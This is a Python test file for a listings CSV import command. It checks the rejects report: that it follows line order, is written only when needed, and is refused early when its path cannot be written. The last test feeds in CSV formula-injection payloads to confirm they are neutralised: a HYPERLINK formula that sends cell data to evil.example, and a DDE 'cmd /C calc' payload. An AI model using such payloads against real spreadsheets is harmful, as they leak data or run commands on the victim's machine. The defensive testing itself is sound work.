"""The rejects report of `market import`: in line order whichever stage refused a row, written
only when a row is rejected, where the user asked, and refused early when it cannot be written."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from market.listings.rejects import FORMULA_STARTS
from tests.helpers import IMPORT_HEADER, run_market

GOOD = "offer,Plates,691200,100,H87,UZ,Tashkent,KZ,Almaty"


def _lines(path: Path) -> list[tuple[str, str]]:
    return [(r["line"], r["field"]) for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))]


async def _count(app: Any, org_id: str) -> int:
    sql = "SELECT count(*) FROM listings WHERE organization_id = $1::uuid"
    return int(await app.state.pool.fetchval(sql, org_id))


@pytest.mark.parametrize("batch_size", ["1000", "3"])
async def test_rejects_follow_the_file_whichever_stage_refused_the_row(
    batch_size: str, make_org: Any, app: Any, settings: Any, tmp_path: Path
) -> None:
    org = await make_org()
    first = tmp_path / "first.csv"
    first.write_text(f"{IMPORT_HEADER}\nD-1,{GOOD}\n")
    assert run_market(settings, "import", str(first), "--organization", org.id).returncode == 0
    source = tmp_path / "mixed.csv"
    source.write_text(
        f"{IMPORT_HEADER}\n"
        "D-1,demand,Plates,691200,100,H87,UZ,Tashkent,KZ,Almaty\n"  # 2: the database (side kept)
        "V-1,offer,Bad code,999999,100,H87,UZ,Tashkent,KZ,Almaty\n"  # 3: checking (HS code)
        "P-1,offer,Bad amount,691200,ten,H87,UZ,Tashkent,KZ,Almaty\n"  # 4: reading (a number)
        f"G-1,{GOOD}\n"  # 5: written
        'Q-1,offer,"broken"quote,691200,100,H87,UZ,Tashkent,KZ,Almaty\n'  # 6: reading (CSV)
        "V-2,offer,No origin,691200,100,H87,,,KZ,Almaty\n"  # 7: checking (origin)
        "P-2,offer,Too many,691200,100,H87,UZ,Tashkent,KZ,Almaty,extra\n"  # 8: reading (cells)
    )
    rejects = tmp_path / "report" / "mixed-rejects.csv"
    rejects.parent.mkdir()
    result = run_market(
        settings, "import", str(source), "--organization", org.id, "--rejects", str(rejects),
        "--batch-size", batch_size,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "1 created, 0 updated, 6 rejected" in result.stderr
    assert _lines(rejects) == [
        ("2", "side"),
        ("3", "hs_code"),
        ("4", "quantity_amount"),
        ("6", ""),
        ("7", "origin_country"),
        ("8", ""),
    ]
    assert not (tmp_path / "mixed.rejects.csv").exists()  # only where it was asked for
    assert await _count(app, org.id) == 2


async def test_no_rejects_no_file_and_an_earlier_report_at_the_path_is_removed(
    make_org: Any, app: Any, settings: Any, tmp_path: Path
) -> None:
    org = await make_org()
    source = tmp_path / "listings.csv"
    rejects = tmp_path / "listings.rejects.csv"
    source.write_text(f"{IMPORT_HEADER}\nR-1,offer,Plates,691200,ten,H87,UZ,Tashkent,KZ,Almaty\n")
    failed = run_market(settings, "import", str(source), "--organization", org.id)
    assert "1 rejected" in failed.stderr and _lines(rejects) == [("2", "quantity_amount")]

    source.write_text(f"{IMPORT_HEADER}\nR-1,{GOOD}\n")  # fixed
    fixed = run_market(settings, "import", str(source), "--organization", org.id)
    assert fixed.returncode == 0, fixed.stderr
    assert "1 created, 0 updated, 0 rejected" in fixed.stderr and "see " not in fixed.stderr
    assert not rejects.exists()  # the report of the failed import does not linger

    # A file that is not a rejects report is never removed, even when named as one.
    notes = tmp_path / "notes.csv"
    notes.write_text("my own notes\n")
    kept = run_market(settings, "import", str(source), "--organization", org.id, "--rejects", str(notes))
    assert kept.returncode == 0, kept.stderr
    assert notes.read_text() == "my own notes\n"


async def test_a_rejects_path_that_cannot_be_written_is_refused_before_any_row(
    make_org: Any, app: Any, settings: Any, tmp_path: Path
) -> None:
    org = await make_org()
    source = tmp_path / "listings.csv"
    source.write_text(f"{IMPORT_HEADER}\nR-1,{GOOD}\nR-2,offer,Plates,691200,ten,H87,UZ,Tashkent,KZ,Almaty\n")
    missing = tmp_path / "no-such-folder" / "rejects.csv"
    result = run_market(settings, "import", str(source), "--organization", org.id, "--rejects", str(missing))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and "does not exist" in result.stderr
    assert await _count(app, org.id) == 0
    assert not missing.parent.exists()


async def test_cells_of_the_rejects_report_cannot_start_a_formula(
    make_org: Any, app: Any, settings: Any, tmp_path: Path
) -> None:
    org = await make_org()
    source = tmp_path / "hostile.csv"
    out = io.StringIO()
    rows = [
        ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', *GOOD.split(",")],
        [
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "offer",
            "Plates",
            "999999",
            "100",
            "H87",
            "UZ",
            "Tashkent",
            "KZ",
            "Almaty",
        ],
        ["H-3", "offer", "+1 plates", "691200", "-5", "H87", "UZ", "Tashkent", "KZ", "Almaty"],
        ["H-4", "offer", "Plates", "691200", "=1+1", "H87", "UZ", "Tashkent", "KZ", "Almaty"],
    ]
    csv.writer(out).writerows([IMPORT_HEADER.split(","), *rows])
    source.write_text(out.getvalue())
    result = run_market(settings, "import", str(source), "--organization", org.id)
    assert result.returncode == 0, result.stderr
    assert "0 created, 0 updated, 4 rejected" in result.stderr
    report = list(csv.reader(io.StringIO((tmp_path / "hostile.rejects.csv").read_bytes().decode())))
    cells = [cell for row in report for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
